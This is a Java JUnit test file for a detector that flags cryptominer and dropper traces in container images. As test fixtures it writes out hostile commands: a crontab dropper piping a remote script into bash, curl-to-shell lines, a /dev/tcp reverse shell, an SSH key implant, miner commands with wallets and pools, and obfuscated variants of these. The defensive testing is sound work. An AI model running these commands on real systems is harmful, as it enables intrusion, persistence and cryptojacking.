package io.firedamp.detectors.indicators;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.firedamp.detectors.PoolList;
import io.firedamp.detectors.indicators.Trace.Kind;
import io.firedamp.detectors.indicators.Traces.Level;
import io.firedamp.schemas.SharedData;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TraceFinderTest {
  private static final String WALLET =
      "41e2vPcVux9NNeTfWe8TLK2UWxCXJvNyCQtNb69YEexdNs711jEaDRXWbwaVe4vUMveKAzAiA4j8xgUi29TpKXpm3zKTUYo";

  private static final String MINER = "./kworker -o 198.51.100.7:3333 -u " + WALLET + " -k";

  private final TraceFinder finder = new TraceFinder(PoolList.bundled());

  @Test
  void findsEveryRealMinerImage() throws IOException {
    ObjectMapper json = new ObjectMapper();
    Map<String, Level> levels = new TreeMap<>();
    for (String line : Files.readAllLines(SharedData.require("images/miner-image-configs.jsonl"))) {
      JsonNode image = json.readTree(line);
      JsonNode config = image.get("config");
      List<String> command = texts(config.get("Entrypoint"));
      command.addAll(texts(config.get("Cmd")));

      Traces traces = finder.find(command, texts(config.get("Env")), List.of());

      levels.put(image.get("id").asText(), traces.level());
    }

    assertThat(levels).hasSize(11);
    assertThat(levels.values()).allMatch(level -> level.compareTo(Level.MINER) >= 0);
    assertThat(levels.values().stream().filter(Level.MINER_WITH_WALLET::equals).count())
        .as("of 11 with a wallet and a pool: %s", levels)
        .isGreaterThanOrEqualTo(6);
  }

  @Test
  void findsTheDropperThatStartedIt() {
    Traces traces =
        command(
            "sh",
            "-c",
            "echo '* * * * * curl -s http://104.225.147.196:8220/logo3.jpg | bash -s' >> /mnt/etc/crontab");

    assertThat(traces.level()).isEqualTo(Level.DROPPER);
    assertThat(traces.found().stream().map(Trace::kind))
        .containsExactly(Kind.DISGUISED_PROGRAM, Kind.DOWNLOADER, Kind.CRONTAB);
  }

  @Test
  void findsTheMinerTheDropperFetched() {
    Traces traces =
        command(
            "minerd",
            "-B",
            "-a",
            "cryptonight",
            "-o",
            "stratum+tcp://xmr.crypto-pool.fr:3333",
            "-u",
            WalletTest.MONERO,
            "-p",
            "x");

    assertThat(traces.level()).isEqualTo(Level.MINER_WITH_WALLET);
    assertThat(traces.found())
        .contains(
            new Trace(Kind.WALLET, WalletTest.MONERO),
            new Trace(Kind.POOL, "crypto-pool.fr"),
            new Trace(Kind.STRATUM, "stratum+tcp"),
            new Trace(Kind.PROGRAM, "minerd"));
    assertThat(traces.indicators()).hasSize(2);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "./xmrig",
        "/tmp/.x/xmrig-6.21.0 --threads=4",
        "nohup nice -n 19 /dev/shm/kdevtmpfsi &",
        "sh -c 'cd /tmp; ./xmr-stak-cpu'",
        "wget https://github.com/xmrig/xmrig/releases/download/v6/xmrig-6.21.0-linux-x64.tar.gz",
        "/usr/lib/systemd/x --donate-level 0",
        "python-worker -a rx/0 -o 10.0.0.5:443 -u anything",
        "./a -o gulf.moneroocean.stream:10128 -u x -p y",
        "svc --algo=kawpow --pool=$POOL",
        "run stratum2+tls://198.51.100.7:443"
      })
  void callsAMinerAMiner(String command) {
    assertThat(command(command).level()).isEqualTo(Level.MINER);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -fsSL https://get.example.com | sh",
        "curl -s http://x/a.sh 2>&1 | sudo -E bash -",
        "(curl -s http://x/a || wget -q -O - http://x/a) | bash",
        "wget -qO- 'http://x/a?b=1&c=2'|sh",
        "bash <(curl -s http://x/a)",
        "sh -c \"$(wget -qO- http://x/a)\"",
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys",
        "sysctl -w vm.nr_hugepages=128",
        "modprobe msr",
        "(crontab -l; echo '*/5 * * * * /tmp/a') | crontab -",
        "pkill -f xmrig; killall minerd",
        "ps aux | grep kinsing | awk '{print $2}' | xargs kill -9"
      })
  void callsWhatBringsAMinerADropper(String command) {
    assertThat(command(command).level()).as(command(command).text()).isEqualTo(Level.DROPPER);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "docker-entrypoint.sh postgres",
        "nginx -g daemon off;",
        "catalina.sh run",
        "java -jar app.jar --user=x --url=jdbc:postgresql://db.example.com:5432/x --pool=10",
        "mongodump --host db.example.com:27017 -u admin -p secret",
        "ssh -o StrictHostKeyChecking=no -u x",
        "sort -u -o out.txt",
        "curl -o /tmp/file.tgz https://example.com/file.tgz",
        "curl -s https://example.com/health && sh -c 'echo ok'",
        "wget -q -O /dev/null http://localhost/ || exit 1",
        "scanner --detect xmrig,minerd",
        "grep xmrig /etc/blocklist",
        "t_rex serve --bind 0.0.0.0:6767",
        "openssl speed sha256",
        "python train.py --algorithm x --user y",
        "nats-server --user x --pass y -p 4222",
        "bitcoind -printtoconsole",
        "crontab-ui",
        "prometheus --web.listen-address=:9090"
      })
  void leavesOrdinaryCommandsAlone(String command) {
    assertThat(command(command).level()).as(command(command).text()).isEqualTo(Level.NOTHING);
  }

  @Test
  void takesNoWalletAloneForAMiner() {
    Traces traces =
        finder.find(List.of("node", "shop.js"), List.of("DONATE=" + WalletTest.MONERO), List.of());

    assertThat(traces.level()).isEqualTo(Level.NOTHING);
    assertThat(traces.has(Kind.WALLET)).isTrue();
  }

  @Test
  void takesNoMentionInTheEnvironmentForAMiner() {
    Traces traces =
        finder.find(
            List.of("/app/server"),
            List.of("DESCRIPTION=finds xmrig and other miners", "DOCS=https://docs.example/xmrig"),
            List.of());

    assertThat(traces).isEqualTo(Traces.NONE);
  }

  @Test
  void findsPoolAndWalletLeftInTheEnvironment() {
    Traces traces =
        finder.find(
            List.of("/bin/app"),
            List.of("P=stratum+ssl://xmr.nanopool.org:443", "W=" + WalletTest.MONERO + ".rig1"),
            List.of());

    assertThat(traces.level()).isEqualTo(Level.MINER_WITH_WALLET);
  }

  @Test
  void unpacksBase64Twice() {
    String once = base64("curl -s http://203.0.113.9/x.sh | bash");
    String twice = base64("echo " + once + " | base64 -d | sh");

    assertThat(command("sh", "-c", "echo " + once + "|base64 -d|sh").has(Kind.DOWNLOADER)).isTrue();
    assertThat(command("sh", "-c", "echo " + twice + "|base64 -d|sh").has(Kind.DOWNLOADER))
        .isTrue();
    assertThat(
            finder
                .find(List.of(), List.of("A=" + base64("./xmrig -o pool:3333 -u x")), List.of())
                .level())
        .isEqualTo(Level.MINER);
  }

  @Test
  void unpacksBase64FourTimesAndNoMore() {
    String packed = "curl -s http://203.0.113.9/x.sh | bash";
    for (int depth = 1; depth <= 5; depth++) {
      packed = base64(packed);

      assertThat(command("sh", "-c", packed).has(Kind.DOWNLOADER))
          .as("%d deep", depth)
          .isEqualTo(depth <= 4);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "echo %s | base64 -d | gunzip | sh",
        "python3 -c 'import zlib,base64;exec(zlib.decompress(base64.b64decode(\"%s\")))'"
      })
  void unpacksWhatIsCompressed(String command) throws IOException {
    byte[] miner = MINER.getBytes(StandardCharsets.UTF_8);
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (OutputStream out =
        command.contains("zlib")
            ? new DeflaterOutputStream(packed)
            : new GZIPOutputStream(packed)) {
      out.write(miner);
    }

    assertThat(
            command(command.formatted(Base64.getEncoder().encodeToString(packed.toByteArray())))
                .level())
        .isEqualTo(Level.MINER_WITH_WALLET);
  }

  @ParameterizedTest
  @ValueSource(strings = {"\\x%02x", "\\%03o", "\\0%03o", "\\\\x%02x"})
  void readsEscapes(String escape) {
    String escaped = MINER.chars().mapToObj(escape::formatted).collect(Collectors.joining());

    assertThat(command("sh", "-c", "printf '" + escaped + "' | sh").level())
        .isEqualTo(Level.MINER_WITH_WALLET);
  }

  @Test
  void readsHexadecimal() {
    String hex = HexFormat.of().formatHex(MINER.getBytes(StandardCharsets.UTF_8));

    assertThat(command("sh", "-c", "echo " + hex + " | xxd -r -p | bash").level())
        .isEqualTo(Level.MINER_WITH_WALLET);
  }

  @Test
  void readsBackwardsWhereSomethingIsTurnedAround() {
    String turned = new StringBuilder(MINER).reverse().toString();

    assertThat(command("sh", "-c", "echo '" + turned + "' | rev | sh").level())
        .isEqualTo(Level.MINER_WITH_WALLET);
    assertThat(command("sh", "-c", "echo '" + turned + "' > /tmp/riddle").level())
        .isEqualTo(Level.NOTHING);
  }

  @Test
  void takesDigestsAccentsAndCompressedDataForWhatTheyAre() {
    String digest = "0b48296ecbe64e1528b7cd94f916056098b96a1fb037b50cde71d65c63fc6411";
    Traces traces =
        command(
            "verify",
            digest,
            "--title",
            "Gr\\xc3\\xbc\\xc3\\x9fe",
            "H4sIAAAAAAAAA3N0dHIGAN1xlM4EAAAA");

    assertThat(traces.level()).isEqualTo(Level.NOTHING);
  }

  @Test
  void inflatesNoMoreThanItWouldRead() throws IOException {
    ByteArrayOutputStream bomb = new ByteArrayOutputStream();
    try (OutputStream out = new GZIPOutputStream(bomb)) {
      out.write(new byte[50_000_000]);
    }

    String word = Base64.getEncoder().encodeToString(bomb.toByteArray());

    assertThat(Encoded.inflated(bomb.toByteArray(), 1_000)).hasSize(1_000);
    assertThat(command(word, word, word).level()).isEqualTo(Level.NOTHING);
  }

  @Test
  void knowsAMinersConfigurationByItsKeys() {
    String configuration =
        """
        {"cpu": {"max-threads-hint": 50},
         "pools": [{"url": "198.51.100.7:443", "user": "%s", "tls": true}]}"""
            .formatted(WALLET);

    assertThat(finder.find(List.of(), List.of("config.json=" + configuration), List.of()).level())
        .isEqualTo(Level.MINER_WITH_WALLET);
    assertThat(command("grep", "-r", "\"donate-level\":", "/scan").level())
        .isEqualTo(Level.NOTHING);
  }

  @Test
  void findsWhatStandsBehindPaddingInTheSameCommand() {
    String padding = "--nothing ".repeat(10_000);

    assertThat(command(padding + "; ./xmrig -o pool:3333 -u x").level()).isEqualTo(Level.MINER);
  }

  @ParameterizedTest
  @ValueSource(strings = {"203.0.113.9:3333", "ssl://x.example:9999", "POOL=a.example:14444"})
  void takesAWalletWithAnEndpointForMoreThanEither(String endpoint) {
    List<String> both = List.of("A=" + WALLET, endpoint);

    assertThat(finder.find(List.of(), both, List.of()).level())
        .isEqualTo(Level.WALLET_AND_ENDPOINT);
    assertThat(finder.find(List.of(), List.of(endpoint), List.of()).level())
        .isEqualTo(Level.NOTHING);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "postgres://db.example:5433/x",
        "DB=db.example:5432",
        "db.shop.svc:3333",
        "127.0.0.1:3333",
        "redis:6380",
        "version:1.2.3",
        "https://api.example:8444/x"
      })
  void takesAWalletBesideAnOrdinaryServiceForNothing(String endpoint) {
    assertThat(finder.find(List.of(), List.of("A=" + WALLET, endpoint), List.of()).level())
        .isEqualTo(Level.NOTHING);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "trivy image docker.io/xmrig/xmrig:6.22.0",
        "grype xmrig/xmrig:latest",
        "skopeo inspect docker://docker.io/xmrig/xmrig",
        "clamscan -r /host/opt/xmrig",
        "sh -c \"ps aux | grep -i xmrig\"",
        "kubectl set image deploy/x x=xmrig/xmrig:6",
        "echo /tmp/xmrig"
      })
  void takesAnImageOrFileThatAnotherProgramLooksIntoForAMention(String command) {
    assertThat(command(command).level()).isEqualTo(Level.NOTHING);
  }

  @Test
  void readsTheStepsAnImageWasBuiltWith() {
    Traces traces =
        finder.find(
            List.of("/entrypoint.sh"),
            List.of(),
            List.of(
                "/bin/sh -c #(nop) ADD file:1 in / ",
                "RUN /bin/sh -c apk add --no-cache xmrig # buildkit",
                "/bin/sh -c #(nop)  ENTRYPOINT [\"./minerd\"]"));

    assertThat(traces.found())
        .containsExactly(new Trace(Kind.PROGRAM, "minerd"), new Trace(Kind.PROGRAM, "xmrig"));
  }

  @Test
  void letsAnImageSetUpItsOwnCron() {
    Traces traces =
        finder.find(
            List.of("crond", "-f"),
            List.of(),
            List.of("RUN /bin/sh -c echo '0 3 * * * backup' >> /etc/crontabs/root # buildkit"));

    assertThat(traces.level()).isEqualTo(Level.NOTHING);
  }

  @Test
  @Timeout(20)
  void readsHostileTextInLinearTime() {
    List<String> hostile = new ArrayList<>();
    for (String piece :
        List.of(
            "stratum", "| ", "$(", "curl ", "4", "A", "=", "a.", "-a ", "/", "\"", "`", "\\",
            "\\x41", "rev ")) {
      hostile.add(piece.repeat(300_000));
    }

    long started = System.nanoTime();
    for (String text : hostile) {
      finder.find(List.of(text), List.of(text), hostile);
    }
    Duration took = Duration.ofNanos(System.nanoTime() - started);

    // 15 inputs of 512 KiB each; generous, since other builds share the machine.
    assertThat(took).isLessThan(Duration.ofSeconds(15));
  }

  private Traces command(String... words) {
    return finder.find(List.of(words), List.of(), List.of());
  }

  private static String base64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  private static List<String> texts(JsonNode node) {
    List<String> texts = new ArrayList<>();
    if (node != null && node.isArray()) {
      node.forEach(text -> texts.add(text.asText()));
    }
    return texts;
  }
}
